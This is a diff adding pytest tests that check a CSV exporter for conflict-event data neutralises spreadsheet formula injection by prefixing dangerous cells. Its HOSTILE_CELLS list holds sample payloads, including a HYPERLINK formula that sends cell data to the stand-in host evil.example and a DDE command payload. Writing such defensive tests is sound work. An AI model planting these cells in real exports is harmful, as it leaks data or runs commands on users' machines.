@@ -187,3 +187,36 @@ def test_the_data_directory_defaults_to_the_configured_one(tmp_path, _private_da
     _private_data_dir.mkdir()
     with pytest.raises(ExportError, match="is in your data directory"):
         export_events(EVENTS, "csv", _private_data_dir / "events.csv")
+
+
+# Issue 21, 4: a spreadsheet must not run what an article or an imported row says.
+HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
+                 "\tTAB", "\rCR=1"]  # fmt: skip
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_prefixed():
+    notes, actor, location = HOSTILE_CELLS[:3]
+    event = Event(id=9, event_type="Battles", notes=notes, actor1=actor, location=location, actor2="-2+3",
+                  country="\tTAB", admin1="\rCR=1", latitude=-12.5, longitude=-45.0, fatalities=0,
+                  source="Wire")  # fmt: skip
+    row = next(csv.DictReader(io.StringIO(export_bytes([event], "csv").decode("utf-8"))))
+    assert [row[k] for k in ("notes", "actor1", "location", "actor2", "country", "admin1")] == [
+        "'" + cell for cell in HOSTILE_CELLS
+    ]
+    assert (row["latitude"], row["longitude"], row["source"]) == ("-12.5", "-45.0", "Wire")  # numbers as they are
+
+
+@pytest.mark.parametrize("cell", ["-12.5", "+3", "-1e5", "1", "plain text", "a=b", ""])
+def test_numbers_and_plain_text_are_not_prefixed(cell):
+    from geo.export.acled import spreadsheet_safe
+
+    assert spreadsheet_safe(cell) == cell
+
+
+def test_our_csv_reads_back_without_the_prefix():
+    from geo.export.acled import read_csv
+
+    event = Event(id=1, event_type="Battles", notes="=1+1", actor1="@home", date_start="2022-03-01",
+                  date_end="2022-03-01", time_precision="day", latitude=50.0, longitude=30.0)  # fmt: skip
+    (back,) = read_csv(export_bytes([event], "csv").decode("utf-8"))
+    assert (back.notes, back.actor1) == ("=1+1", "@home")
